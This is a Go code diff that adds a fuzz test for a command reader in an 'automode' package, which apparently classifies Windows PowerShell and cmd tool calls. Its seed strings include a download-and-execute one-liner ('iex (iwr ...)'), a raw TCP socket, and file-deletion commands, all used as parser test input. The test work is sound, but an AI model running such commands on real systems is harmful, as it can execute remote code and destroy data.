@@ -6,6 +6,7 @@ import (
 	"unicode/utf8"
 
 	"automode"
+	"automode/internal/world"
 )
 
 // FuzzRead: no text makes reading panic or hang, and a text that shells and
@@ -33,6 +34,32 @@ E`, `for f in {a..z} {1..9}; do cp "$f" "${f%.*}"; done`, `[[ a =~ $(cp a b) ]]`
 			if e.Command < 0 || e.Command > len(a.Commands) || e.Parent < 0 || e.Parent > len(a.Effects) {
 				t.Errorf("%q: an effect points nowhere", s)
 			}
+		}
+	})
+}
+
+// FuzzReadWindows: the same of texts for PowerShell and cmd.
+func FuzzReadWindows(f *testing.F) {
+	for _, s := range []string{
+		"gci . | ? { $_.Name -like 'a*' } | ri -r", "iex (iwr https://h.test)", "& ('a'+'b') -c:d @e", "$a = @{b={c}}; & $a.b", "foreach ($x in 1..3) { rm $x }",
+		"function f($a) { f $a }; f b", "[IO.File]::Delete(\"C:\\x\")", "cmd /c \"for %i in (a b) do del %i\"", "if exist a (del b) else c > d", "set X=a& call %X% !Y!",
+		"powershell -c \"rm a\" & dir", "New-Object Net.Sockets.TcpClient('h',1)", "$b = { $b.Invoke() }; & $b", "\\\\h\\s\\f", "'{0}{1}' -f 'a',$b | % { . $_ }",
+	} {
+		f.Add(s, true)
+		f.Add(s, false)
+	}
+	f.Fuzz(func(t *testing.T, s string, cmd bool) {
+		kind := automode.PowerShell
+		if cmd {
+			kind = automode.Cmd
+		}
+		a := automode.Action{Call: &automode.Call{Tool: "PowerShell", Kind: automode.ShellTool, Shell: kind, Platform: automode.Windows, Cwd: `C:\p`, Roots: []string{`C:\p`}, Command: s}}
+		Read(&a, world.New(world.Options{Home: `C:\Users\u`, Roots: []string{`C:\p`}, Cwd: `C:\p`, Platform: automode.Windows}), Options{})
+		if a.Complete && (!utf8.ValidString(s) || strings.ContainsRune(s, 0) || len(s) > MaxText) {
+			t.Errorf("%q was read as complete", s)
+		}
+		if !a.Complete && a.Outcome == automode.Policy {
+			t.Errorf("%q is not complete and nothing says why", s)
 		}
 	})
 }
